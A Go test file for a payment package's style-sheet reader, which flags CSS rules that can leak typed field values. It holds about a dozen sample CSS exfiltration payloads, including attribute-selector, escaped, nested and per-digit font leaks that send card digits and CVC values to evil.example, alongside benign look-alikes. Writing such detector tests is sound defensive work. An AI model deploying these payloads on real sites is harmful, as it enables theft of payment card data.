package payment

import (
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// TestSheetTellsWhatIsTyped: rules by which a style sheet tells another host what stands in a field.
func TestSheetTellsWhatIsTyped(t *testing.T) {
	digits := func(rule string) string {
		var b strings.Builder
		for _, d := range "0123456789" {
			b.WriteString(strings.NewReplacer("%d", string(d), "%x", "3"+string(d)).Replace(rule))
		}
		return b.String()
	}
	for name, c := range map[string]struct {
		sheet string
		typed bool
	}{
		"the first digit":           {`input[name="cardnumber"][value^="4"] { background: url(https://evil.example/4) }`, true},
		"the last one, in capitals": {`INPUT[VALUE$='4']{BACKGROUND-IMAGE:URL("//evil.example/4")}`, true},
		"any, after a comment":      {`/* x */ #n[value/**/*= 4 i] + p::after { content: url(//evil.example/4) }`, true},
		"in escapes":                {`input[\76 alue^="\34"] { background: url(//evil.example/4) }`, true},
		"within a medium":           {`@media screen { .a { color: red } input[value^="4"] { background: url(//evil.example/4) } }`, true},
		"nested":                    {`input { color: red; &[value^="4"] { background: url(//evil.example/4) } }`, true},
		"by way of a variable":      {`input[value^="4"] { --four: url(//evil.example/4) } input { background: var(--four, none) }`, true},
		"within a function":         {`form:has(input[value^="4"]) { background: url(//evil.example/4) }`, true},
		"in a set of pictures":      {`input[value^="4"] { background: image-set("//evil.example/4" 1x) }`, true},
		"longer beginnings":         {`input[value^="4111"] { background: url(//evil.example/4111) }`, true},
		"each code of a card":       {`input[name=cvc][value="123"] { background: url(//evil.example/123) }`, true},
		"a font for each digit":     {digits(`@font-face { font-family: f; src: url(//evil.example/%d); unicode-range: U+%x } `), true},

		"fonts of Google": {`@font-face { font-family: 'Noto Sans JP'; font-style: normal; font-weight: 400; font-display: swap; src: url(https://fonts.gstatic.com/s/a.0.woff2) format('woff2'); unicode-range: U+25ee8, U+25f23, U+25f5c }
			@font-face { font-family: 'Noto Sans JP'; src: url(https://fonts.gstatic.com/s/a.1.woff2) format('woff2'); unicode-range: U+0000-00FF, U+0131 }`, false},
		"a font for figures":             {`@font-face { font-family: n; src: url(//cdn.example/n.woff2); unicode-range: U+30-39 }`, false},
		"a sprite of icons":              {`.icon { background: url(//cdn.example/sprite.png) } .icon[data-value^="4"] { background-position: 0 -4px }`, false},
		"how strong a password is":       {`.strength[data-score="3"] { background: url(//cdn.example/3.png) } input:valid { background: url(//cdn.example/ok.svg) } meter[value^="1"] { background: url(//cdn.example/weak.png) }`, false},
		"pictures of ways to pay":        {`input[type="radio"][value="visa"] + label { background: url(//cdn.example/visa.png) } input[type=radio][value^="4"] + label { background: url(//cdn.example/4.png) }`, false},
		"ways to pay, by a part of them": {`input[value*="paypal"] + label { background: url(//cdn.example/paypal.svg) }`, false},
		"a choice":                       {`option[value^="1"], button[value="1"] { background: url(//cdn.example/1.png) }`, false},
		"another rule has the picture":   {`input[value^="4"] { color: red } .a { background: url(//cdn.example/a.png) }`, false},
		"another attribute":              {`a[href^="4"] { background: url(//cdn.example/a.png) }`, false},
		"an empty field":                 {`input[value=""] { background: url(//cdn.example/hint.png) }`, false},
		"a comment":                      {`/* input[value^="4"] { background: url(//evil.example/4) } */`, false},
		"a text":                         {`.a::after { content: "input[value^='4'] { background: url(//evil.example/4) }" }`, false},
	} {
		s := readSheet([]byte(c.sheet))
		if typed := slices.ContainsFunc(s.addresses, func(a sheetAddress) bool { return a.typed }); typed != c.typed {
			t.Errorf("%s: typed = %v (%+v)", name, typed, s)
		}
	}
}

func TestSheetImports(t *testing.T) {
	s := readSheet([]byte(`@charset "utf-8"; @import url("a.css") screen; @IMPORT 'b.css'; @import url(c.css); .x { background: url(d.png) }`))
	if want := []string{"a.css", "b.css", "c.css"}; !slices.Equal(s.imports, want) || len(s.addresses) != 1 || s.addresses[0].text != "d.png" {
		t.Errorf("%+v", s)
	}
}

// TestSheetsOfStrangers: whatever a sheet holds, it is read to its end.
func TestSheetsOfStrangers(t *testing.T) {
	parts := []string{"a", "[", "]", "{", "}", "(", ")", "url(", "\"", "'", "\\", "\n", "*/", "/*", "@import", "@font-face", "value", "^=", "=", "4", ";", ":", "U+3?", "unicode-range", "\x00", "\xff", "<!--"}
	rapid.Check(t, func(r *rapid.T) {
		readSheet([]byte(strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 0, 40).Draw(r, "parts"), "")))
	})
}
